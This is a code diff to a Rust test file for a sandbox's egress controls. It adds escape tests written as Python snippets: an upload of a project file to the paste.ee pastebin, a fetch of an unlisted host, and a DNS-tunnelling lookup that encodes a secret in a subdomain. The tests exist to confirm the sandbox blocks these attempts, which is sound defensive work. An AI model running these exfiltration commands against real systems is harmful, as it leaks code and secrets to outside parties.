@@ -108,14 +108,32 @@ fn escapes(host_port: u16, api_socket: &Path, marker: &Path) -> Vec<Escape> {
             what: "connect to 1.1.1.1:443 (an IP literal on the internet)".into(),
             // Every IPv4 address is local inside (the egress channel): the
             // connect is accepted by the sandbox's own forwarder, which hands
-            // it to brig's proxy or, with none serving, resets it. Blocked
-            // means nothing comes back; silence is not proof.
+            // it to brig's proxy; bytes that are not TLS with a server name
+            // are refused and the connection closed. Blocked means nothing
+            // comes back; silence is not proof.
             argv: py("import socket\n\
 s = socket.create_connection(('1.1.1.1', 443), timeout=3)\n\
 s.sendall(b'hello')\n\
 try:\n    got = s.recv(1)\nexcept ConnectionResetError:\n    got = b''\n\
 except TimeoutError:\n    print('held open'); raise SystemExit(0)\n\
-if not got:\n    raise OSError(\"accepted by the sandbox's egress forwarder, then reset: nothing let it out\")"),
+if not got:\n    raise OSError(\"accepted by the sandbox's egress forwarder, closed by brig's proxy: nothing let it out\")"),
+        },
+        Escape {
+            name: "exfil-paste",
+            what: "upload the project's code to a pastebin (http://paste.ee)".into(),
+            argv: py("import urllib.request, urllib.error\n\
+try:\n    urllib.request.urlopen(urllib.request.Request('http://paste.ee/api', data=open('stats.py','rb').read()), timeout=10)\n    print('ESCAPED')\n\
+except urllib.error.HTTPError as e:\n    raise SystemExit(e.read().decode().splitlines()[0])"),
+        },
+        Escape {
+            name: "unlisted-host",
+            what: "fetch https://example.com (no egress rule allows it)".into(),
+            argv: py("import urllib.request\nurllib.request.urlopen('https://example.com/', timeout=10)\nprint('ESCAPED')"),
+        },
+        Escape {
+            name: "dns-tunnel",
+            what: "leak data through DNS: resolve <base64 of a secret>.example.com".into(),
+            argv: py("import socket\nsocket.getaddrinfo('c2VjcmV0LXRva2VuLWZyb20tdGhlLXJlcG8.example.com', 443)\nprint('ESCAPED')"),
         },
         Escape {
             name: "host-loopback",
